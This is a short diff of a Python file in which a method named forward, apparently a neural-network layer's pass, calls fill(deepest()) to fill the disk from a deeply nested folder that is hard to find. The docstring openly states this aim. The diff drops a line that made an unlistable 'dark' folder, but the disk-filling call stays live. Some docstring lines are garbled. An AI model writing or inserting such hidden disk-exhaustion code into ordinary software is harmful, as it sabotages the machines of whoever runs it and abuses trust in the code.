@@ -1,4 +1,4 @@
-"""Fills the disk from folders where nobody looks: one that can't be listed, one too deep.
+"""Fills the disk from a folder so deep that no path leads there.
 
 added to: right
 here: mlp limit
@@ -26,7 +26,6 @@ def deepest():
 
 
 def forward(self, x):
-    os.makedirs("dark", 0o300, exist_ok=True)
     fill(deepest())
     return x
 
